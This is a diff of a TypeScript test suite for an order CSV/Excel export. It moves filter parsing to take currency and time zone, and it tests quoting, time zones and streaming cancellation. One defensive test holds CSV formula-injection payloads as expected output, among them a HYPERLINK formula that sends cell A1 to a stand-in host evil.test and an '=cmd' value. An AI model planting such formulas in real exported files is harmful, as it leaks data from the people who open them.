@@ -160,7 +160,7 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
   for (const slug of ["demo", "autre"] as const) {
     for (const variant of ["csv", "excel-fr"] as CsvVariant[]) {
       it.each(cases)(`${slug}, ${variant}: export is byte-identical to the keyset pages (%s)`, async (_label, raw) => {
-        const filters = parseOrderFilters(raw, currencyOf[slug]);
+        const filters = parseOrderFilters(raw, { currency: currencyOf[slug], timeZone: zoneOf[slug] });
         const options = { variant, timeZone: zoneOf[slug] };
         const keyset = await text(ordersCsvStream(database.db, ids[slug]!, filters, options, 37));
         const exported = await text(exportOrdersCsv(database, ids[slug]!, filters, options));
@@ -172,7 +172,7 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
 
   // Not store zones today, but the SQL and JS offsets must agree on a negative, a half-hour and a daylight-saving one.
   it.each(["America/St_Johns", "Europe/Paris", "UTC"])("writes the same times in %s on both paths", async (timeZone) => {
-    const filters = parseOrderFilters({}, "KES");
+    const filters = parseOrderFilters({}, { currency: "KES", timeZone: "Africa/Nairobi" });
     const options = { variant: "csv" as const, timeZone };
     const exported = await text(exportOrdersCsv(database, ids.autre!, filters, options));
     expect(exported).toBe(await text(ordersCsvStream(database.db, ids.autre!, filters, options, 37)));
@@ -180,7 +180,7 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
   });
 
   it("covers the cases that need care: quoting, empty strings, decimals, sources", async () => {
-    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, "KES"), plain("autre")));
+    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, { currency: "KES", timeZone: "Africa/Nairobi" }), plain("autre")));
     expect(autre).toContain('"Awa ""la patronne"", Abidjan"');
     expect(autre).toContain('"Line one\nline two\r\nand\rthree",,,KES,123.45,,,,');
     expect(autre).toMatch(/\r\nEAUTRE003,[^,]+,,,,KES,123\.45,,,,ipay,,failed,,,\r\n/);
@@ -190,27 +190,27 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
     // 23:59:59.999999 UTC is the next day in Nairobi; the fraction is dropped, not rounded.
     expect(autre).toContain("2026-01-16T02:59:59+03:00,\"C:\\caisse\\tab\there, ' quote\"");
     expect(autre).toContain(",expired,");
-    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, "XOF"), plain("demo")));
+    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), plain("demo")));
     expect(demo).toContain(",XOF,12345,350,estimated,11995,cinetpay,card,paid,,2026-12-01,estimated\r\n");
     expect(demo).toContain("EDEMO009,2026-01-15T10:00:00+00:00,Tie A,");
   });
 
   it("Excel (FR): byte-order mark, ';' between fields, decimal commas, times in the store's zone", async () => {
-    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, "KES"), excelFr("autre")));
+    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, { currency: "KES", timeZone: "Africa/Nairobi" }), excelFr("autre")));
     expect(autre.startsWith("\ufeffreference;created_at;customer_name;")).toBe(true);
     expect(autre).toContain(";KES;0,05;0,07;reported;-0,02;ipay;card;paid;\"MP,1\"\"2\";2026-12-02;reported\r\n");
     expect(autre).toContain(";123,45;200,00;estimated;-76,55;ipay;card;refunded;");
     // A comma is no separator here: left unquoted; a ';' is, and is quoted.
     expect(autre).toContain("2026-01-16T02:59:59+03:00;C:\\caisse\\tab\there, ' quote;");
     expect(autre).toContain(`;"Awa ${HOSTILE.replaceAll('"', '""')} Koné";`);
-    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, "XOF"), excelFr("demo")));
+    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), excelFr("demo")));
     expect(demo).toContain(";XOF;12345;350;estimated;11995;cinetpay;card;paid;;2026-12-01;estimated\r\n");
     expect(demo).toContain("EDEMO009;2026-01-15T10:00:00+00:00;Tie A;");
   });
 
   it("neutralizes formulas in free-text cells with a leading quote, leaving amounts and E.164 phones as they are", async () => {
     for (const slug of ["demo", "autre"] as const) {
-      const fr = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, currencyOf[slug]), excelFr(slug)));
+      const fr = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), excelFr(slug)));
       expect(fr).toContain(`'=1+2${slug};`);
       expect(fr).toContain(`;'=cmd;paid;'+HYPERLINK(1);`);
       for (const record of parseCsv(fr.slice(1), ";").slice(1)) {
@@ -219,7 +219,7 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
           expect(field, `${CSV_HEADER[i]} ${JSON.stringify(field)}`).not.toMatch(/^[=+\-@\t\r](?![0-9]+(\.[0-9]+)?$)|^\s+[=+\-@]/);
         }
       }
-      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, currencyOf[slug]), plain(slug)));
+      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), plain(slug)));
       const currency = currencyOf[slug];
       expect(csv).toContain(`'=1+2${slug},`);
       expect(csv).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Cliquez ici"")",'@SUM(1+1)@evil.test,'-2+3,${currency},`);
@@ -242,11 +242,11 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
 
   it("a hostile search string finds its order, as a name, and breaks nothing", async () => {
     for (const slug of ["demo", "autre"] as const) {
-      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE }, currencyOf[slug]), plain(slug)));
+      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE }, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), plain(slug)));
       const lines = csv.split("\r\n").filter(Boolean);
       expect(lines).toHaveLength(2);
       expect(lines[1]).toContain(`E${slug.toUpperCase()}006,`);
-      const byRef = (await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE_REF }, currencyOf[slug]), plain(slug)))).split("\r\n").filter(Boolean);
+      const byRef = (await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE_REF }, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), plain(slug)))).split("\r\n").filter(Boolean);
       expect(byRef).toHaveLength(2);
       expect(byRef[1]).toContain(`E${slug.toUpperCase()}011,`);
     }
@@ -298,7 +298,7 @@ describe.each(postgresOnly)("COPY export streaming on $name", ({ open }) => {
   });
 
   it("holds the server back while the client does not read, and a cancel stops the query and frees the connection", async () => {
-    const reader = exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF"), ABIDJAN).getReader();
+    const reader = exportOrdersCsv(database, demo, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN).getReader();
     let received = 0;
     while (received < 100_000) received += (await reader.read()).value!.length;
     // Backpressure reaches the server: its backend waits on the socket instead of filling our memory.
@@ -309,21 +309,21 @@ describe.each(postgresOnly)("COPY export streaming on $name", ({ open }) => {
     const [backend] = (await database.db.execute(sql`select state, pid = pg_backend_pid() as self from pg_stat_activity where pid = ${copy!.pid}`)) as unknown as { state: string; self: boolean }[];
     expect(backend!.self || backend!.state === "idle").toBe(true);
     // Both pool connections are usable again: two exports at once (each holds one) complete.
-    const one = parseOrderFilters({ q: "B17" }, "XOF");
+    const one = parseOrderFilters({ q: "B17" }, { currency: "XOF", timeZone: "Africa/Abidjan" });
     const [a, b] = await Promise.all([text(exportOrdersCsv(database, demo, one, ABIDJAN)), text(exportOrdersCsv(database, demo, one, ABIDJAN))]);
     expect(a).toBe(b);
     expect(a).toBe(await text(ordersCsvStream(database.db, demo, one, ABIDJAN)));
   });
 
   it("a cancel before the first read or after the last row leaves nothing behind", async () => {
-    await exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF"), ABIDJAN).cancel();
-    const reader = exportOrdersCsv(database, demo, parseOrderFilters({ q: "B1234" }, "XOF"), ABIDJAN).getReader();
+    await exportOrdersCsv(database, demo, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN).cancel();
+    const reader = exportOrdersCsv(database, demo, parseOrderFilters({ q: "B1234" }, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN).getReader();
     let all = "";
     for (let r = await reader.read(); !r.done; r = await reader.read()) all += new TextDecoder().decode(r.value);
     await reader.cancel();
     expect(all.split("\r\n").filter(Boolean)).toHaveLength(2);
     await eventually(activeCopies, (rows) => rows.length === 0);
-    const whole = await text(exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF"), ABIDJAN));
+    const whole = await text(exportOrdersCsv(database, demo, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN));
     expect(whole.split("\r\n").filter(Boolean)).toHaveLength(4001);
   });
 });
